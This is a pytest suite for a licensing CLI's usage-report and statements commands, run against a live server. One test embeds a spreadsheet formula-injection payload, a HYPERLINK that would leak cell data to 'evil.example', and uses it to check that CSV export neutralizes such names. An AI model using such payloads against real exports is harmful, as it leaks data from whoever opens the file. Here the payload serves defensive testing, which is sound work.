"""`charter usage report` and `charter statements show|list|close` against a real server (see
`sdk._live`): SQLite, and PostgreSQL when reachable."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path
from typing import Any

import pytest
from charter import Client
from charter.cli._app import app
from charter.cli.statements import CSV_COLUMNS, statement_csv
from charter.usage import usage_key
from charter.v1 import usage_pb2
from sdk._live import USE, Live, Party, new_party  # tests/ is on sys.path: pytest's rootdir-relative layout
from typer.testing import CliRunner, Result

from ._readable import ReadableRunner

_HEADER = (
    "rights_holder_id,rights_holder_name,period,start_date,end_date,state,character_id,character_name,licensee_id,"
    "licensee_name,currency,adjustment_for_period,records,uses,duration_milliseconds,revenue_minor_units,"
    "revenue_share_minor_units,fee_minor_units,owed_minor_units"
)


def _invoke(runner: CliRunner, live: Live, secret: str, *args: str, stdin: str | None = None) -> Result:
    return runner.invoke(app, ["--target", live.target, "--api-key", secret, *args], input=stdin)


def _authorized(runner: CliRunner, live: Live, party: Party, *character_ids: str) -> dict[str, Any]:
    """The JSON `charter authorize --json` prints: the receipt is in it as a DSSE JSON object."""
    characters = [option for character in character_ids for option in ("-c", character)]
    result = _invoke(
        runner,
        live,
        party.generator,
        "--json",
        "authorize",
        *characters,
        "--use-type",
        "image-generation",
        "--rating",
        "teen",
    )
    assert result.exit_code == 0, result.output
    decided: dict[str, Any] = json.loads(result.stdout)
    return decided


def _jsonl(path: Path, *lines: object) -> Path:
    path.write_text("".join((line if isinstance(line, str) else json.dumps(line)) + "\n" for line in lines))
    return path


def _report_through_the_sdk(live: Live, party: Party, *, revenue: int) -> str:
    """Reports a use of the first character with revenue in USD; returns its statement period."""
    with (
        Client(live.target, api_key=party.generator) as generator,
        generator.license(character_ids=[party.character_ids[0]], **USE) as granted,
    ):
        granted.duration = dt.timedelta(seconds=4)
        granted.attribute_revenue(revenue, "USD")
    (result,) = granted.usage_results
    assert result.accepted
    return result.statement_period


# -- usage report ---------------------------------------------------------------------------------


def test_usage_report_sends_the_good_lines_and_lists_the_bad_ones(
    runner: ReadableRunner, live: Live, party: Party, admin: Client, tmp_path: Path
) -> None:
    first, second = party.character_ids
    stranger = new_party(admin, characters=1).character_ids[0]
    decided = _authorized(runner, live, party, first, second)
    receipt = decided["receipt"]
    now = dt.datetime.now(dt.UTC).isoformat()
    file = _jsonl(
        tmp_path / "usage.jsonl",
        {"receipt": receipt, "character_id": first, "revenue": {"minor_units": 1000, "currency": "USD"}},
        '{"receipt": "not closed',
        {"receipt": receipt, "character_id": stranger},
        "",
        {"receipt": json.dumps(receipt), "character_id": second, "duration_seconds": 2.5, "happen_time": now},
        {"receipt": receipt},
    )

    table = _invoke(runner, live, party.generator, "usage", "report", str(file))
    again = _invoke(runner, live, party.generator, "--json", "usage", "report", str(file), "--batch-size", "1")

    assert table.exit_code == 1, table.output
    assert [row["line"] for row in runner.rows(table, "rejected lines")] == ["3"]
    assert runner.rows(table, "rejected lines")[0]["reason"] == "RECEIPT_DOES_NOT_ALLOW_CHARACTER"
    assert [row["line"] for row in runner.rows(table, "invalid lines (not sent)")] == ["2", "6"]
    assert again.exit_code == 1, again.output
    data = json.loads(again.stdout)
    # The line without a happen_time got a new time: another record under the same key.
    assert data["summary"] == {"accepted": 0, "duplicates": 1, "rejected": 2, "invalid": 2, "notSent": 0}
    by_line = {result["line"]: result for result in data["results"]}
    assert sorted(by_line) == [1, 3, 5]
    assert (by_line[1]["errorCode"], by_line[1]["errorReason"]) == ("ALREADY_EXISTS", "IDEMPOTENCY_KEY_REUSED")
    assert (by_line[3]["errorCode"], by_line[3]["errorReason"]) == (
        "FAILED_PRECONDITION",
        "RECEIPT_DOES_NOT_ALLOW_CHARACTER",
    )
    assert by_line[5]["duplicate"] is True
    assert by_line[5]["idempotencyKey"] == usage_key(decided["receiptId"], second)
    assert [entry["line"] for entry in data["invalid"]] == [2, 6]
    statement = admin.get_statement(party.rights_holder_id, period=by_line[5]["statementPeriod"])
    lines = {line.character_id: line for line in statement.lines}
    assert (lines[first].revenue_minor_units, lines[first].records) == (1000, 1)
    assert (lines[second].duration_milliseconds, lines[second].records) == (2500, 1)
    assert stranger not in lines


def test_usage_report_reads_standard_input_and_exits_0_when_all_are_accepted(
    runner: CliRunner, live: Live, party: Party
) -> None:
    decided = _authorized(runner, live, party, *party.character_ids)
    now = dt.datetime.now(dt.UTC).isoformat()
    lines = [{"receipt": decided["receipt"], "character_id": c, "happen_time": now} for c in party.character_ids]
    text = "".join(json.dumps(line) + "\n" for line in lines)

    first = _invoke(runner, live, party.generator, "--json", "usage", "report", "-", stdin=text)
    second = _invoke(runner, live, party.generator, "--json", "usage", "report", "-", stdin=text)

    assert first.exit_code == 0, first.output
    assert json.loads(first.stdout)["summary"]["accepted"] == 2
    assert second.exit_code == 0, second.output
    assert json.loads(second.stdout)["summary"] == {
        "accepted": 0,
        "duplicates": 2,
        "rejected": 0,
        "invalid": 0,
        "notSent": 0,
    }


def test_usage_report_of_a_missing_file_is_a_usage_error(runner: CliRunner, live: Live, tmp_path: Path) -> None:
    result = _invoke(runner, live, live.admin, "usage", "report", str(tmp_path / "missing.jsonl"))

    assert result.exit_code == 2


# -- statements -----------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [80, 149, 150, 151, 200])
def test_statements_show_prints_every_column_whole_at_any_width(live: Live, party: Party, width: int) -> None:
    period = _report_through_the_sdk(live, party, revenue=1001)
    runner = ReadableRunner(width, env={"LC_ALL": "en_US.UTF-8"})

    shown = _invoke(
        runner,
        live,
        party.generator,
        "statements",
        "show",
        "--rights-holder",
        party.rights_holder_id,
        "--period",
        period,
    )

    assert shown.exit_code == 0, shown.output
    (line,) = runner.rows(shown, "lines")
    (total,) = runner.rows(shown, "totals")
    assert line["character"].split("\n")[0] == party.character_ids[0]
    assert line["licensee"].split("\n")[0] == party.licensee_id
    assert (line["currency"], line["revenue"], line["share"], line["fees"], line["owed"]) == (
        "USD",
        "$10.01",
        "$1.50",
        "$0.05",
        "$1.55",
    )
    assert (total["currency"], total["owed"]) == ("USD", "$1.55")


def test_statements_show_prints_names_lines_and_totals_and_csv_matches_the_statement(
    runner: ReadableRunner, live: Live, party: Party, admin: Client
) -> None:
    period = _report_through_the_sdk(live, party, revenue=1001)
    character = party.character_ids[0]
    statement = admin.get_statement(party.rights_holder_id, period=period)
    character_name = admin.get_character(character).canonical_name
    licensee_name = admin.get_licensee(party.licensee_id).display_name
    holder_name = admin.get_rights_holder(party.rights_holder_id).display_name
    shown = ["statements", "show", "--rights-holder", party.rights_holder_id, "--period", period]

    table = _invoke(runner, live, live.admin, *shown)
    as_csv = _invoke(runner, live, live.admin, *shown, "--csv")
    as_json = _invoke(runner, live, live.admin, *shown, "--json")

    assert table.exit_code == 0, table.output
    assert table.stdout.startswith(f"statement: {period} (open)\n")
    assert f"rights holder: {party.rights_holder_id} ({holder_name})" in " ".join(table.stdout.split())
    (row,) = runner.rows(table, "lines")
    assert row["character"] == f"{character}\n{character_name}"
    assert row["licensee"] == f"{party.licensee_id}\n{licensee_name}"
    assert [row[name] for name in ("duration (s)", "revenue", "share", "fees", "owed")] == [
        "4.000",
        "$10.01",
        "$1.50",
        "$0.05",
        "$1.55",
    ]
    assert as_csv.exit_code == 0, as_csv.output
    assert as_csv.stdout.splitlines()[0] == _HEADER == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(io.StringIO(as_csv.stdout)))
    (line_row, total_row) = rows
    (line,) = statement.lines
    (total,) = statement.totals
    for name in CSV_COLUMNS[CSV_COLUMNS.index("records") :]:
        assert int(line_row[name]) == getattr(line, name), name
        assert int(total_row[name]) == getattr(total, name), name
    assert [line_row[name] for name in CSV_COLUMNS[: CSV_COLUMNS.index("records")]] == [
        party.rights_holder_id,
        holder_name,
        period,
        statement.start_date,
        statement.end_date,
        "open",
        character,
        character_name,
        party.licensee_id,
        licensee_name,
        "USD",
        "",
    ]
    assert [total_row[name] for name in CSV_COLUMNS[6:12]] == ["TOTAL", "", "", "", "USD", ""]
    assert as_json.exit_code == 0, as_json.output
    data = json.loads(as_json.stdout)
    assert data["state"] == "STATEMENT_STATE_OPEN"
    assert (data["lines"][0]["characterName"], data["lines"][0]["licenseeDisplayName"]) == (
        character_name,
        licensee_name,
    )


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_statement_csv_writes_names_that_start_like_formulas_as_text(start: str) -> None:
    """Names are the other party's choice (a character named ``=HYPERLINK(...)``): each such cell
    gets a leading apostrophe, as in the console's CSV; amounts stay numbers."""
    name = f'{start}HYPERLINK("https://evil.example/?leak="&A2,"Aoi")'
    line = usage_pb2.StatementLine(
        character_id="chr_1", character_name=name, licensee_id="lic_1", licensee_display_name=name, owed_minor_units=-5
    )
    statement = usage_pb2.Statement(rights_holder_id="rh_1", rights_holder_display_name=name, lines=[line])

    (row,) = csv.DictReader(io.StringIO(statement_csv(statement)))

    assert [row[c] for c in ("rights_holder_name", "character_name", "licensee_name")] == ["'" + name] * 3
    assert (row["character_id"], row["owed_minor_units"]) == ("chr_1", "-5")


def test_statements_show_a_date_range(runner: ReadableRunner, live: Live, party: Party) -> None:
    _report_through_the_sdk(live, party, revenue=10)
    today = dt.datetime.now(dt.UTC).date()
    start = (today - dt.timedelta(days=1)).isoformat()

    result = _invoke(
        runner,
        live,
        live.admin,
        "statements",
        "show",
        "--rights-holder",
        party.rights_holder_id,
        "--from",
        start,
        "--to",
        today.isoformat(),
    )

    assert result.exit_code == 0, result.output
    assert result.stdout.startswith(f"statement: {start} to {today.isoformat()} (range)\n")
    assert [row["character"].split("\n")[0] for row in runner.rows(result, "lines")] == [party.character_ids[0]]


@pytest.mark.parametrize(
    "options",
    [
        [],
        ["--period", "2026-01", "--from", "2026-01-01", "--to", "2026-01-31"],
        ["--from", "2026-01-01"],
        ["--period", "2026-01", "--csv", "--json"],
    ],
)
def test_statements_show_needs_one_span_and_one_format(runner: CliRunner, live: Live, options: list[str]) -> None:
    result = _invoke(runner, live, live.admin, "statements", "show", "--rights-holder", "rh_x", *options)

    assert result.exit_code == 2


def test_statements_close_then_show_and_list_say_closed(
    runner: ReadableRunner, live: Live, party: Party, moved_clock: Any
) -> None:
    period = _report_through_the_sdk(live, party, revenue=1000)
    holder = ["--rights-holder", party.rights_holder_id]

    too_early = _invoke(runner, live, live.admin, "statements", "close", *holder, "--period", period)
    moved_clock.advance(dt.timedelta(days=32))
    closed = _invoke(runner, live, live.admin, "statements", "close", *holder, "--period", period)
    shown = _invoke(runner, live, live.admin, "statements", "show", *holder, "--period", period)
    listed = _invoke(runner, live, live.admin, "statements", "list", *holder)
    listed_json = _invoke(runner, live, live.admin, "--json", "statements", "list", *holder)

    assert too_early.exit_code == 1
    assert "STATEMENT_PERIOD_NOT_ENDED" in too_early.stderr
    assert closed.exit_code == 0, closed.output
    assert closed.stdout.startswith(f"statement: {period} (closed)\n")
    assert "closed at: " in closed.stdout
    assert shown.exit_code == 0, shown.output
    assert shown.stdout.startswith(f"statement: {period} (closed)\n")
    assert listed.exit_code == 0, listed.output
    (row,) = runner.rows(listed, "statements")
    assert (row["period"], row["state"], row["owed"]) == (period, "closed", "$1.55")
    assert row["rights holder"].split("\n")[0] == party.rights_holder_id
    (statement,) = json.loads(listed_json.stdout)
    assert (statement["period"], statement["state"]) == (period, "STATEMENT_STATE_CLOSED")
    assert statement["lines"] == []
    assert statement["totals"][0]["owedMinorUnits"] == "155"
